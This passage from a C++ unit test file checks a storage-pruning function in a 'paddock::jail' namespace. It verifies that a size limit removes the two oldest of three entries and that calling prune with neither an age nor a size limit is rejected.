  ASSERT_TRUE(one.ok() && one->size_bytes);
  PruneOptions o;
  o.max_total = *one->size_bytes;  // room for one of the three (they are alike)
  o.now = now;
  auto p = prune(*store_, o);
  ASSERT_TRUE(p.ok()) << p.error().describe();
  EXPECT_EQ(p->removed, 2);
  EXPECT_FALSE(store_->load("a").ok());
  EXPECT_FALSE(store_->load("b").ok());
  EXPECT_TRUE(store_->load("c").ok());
  EXPECT_FALSE(prune(*store_, PruneOptions{}).ok());  // neither an age nor a size
}

}  // namespace
}  // namespace paddock::jail
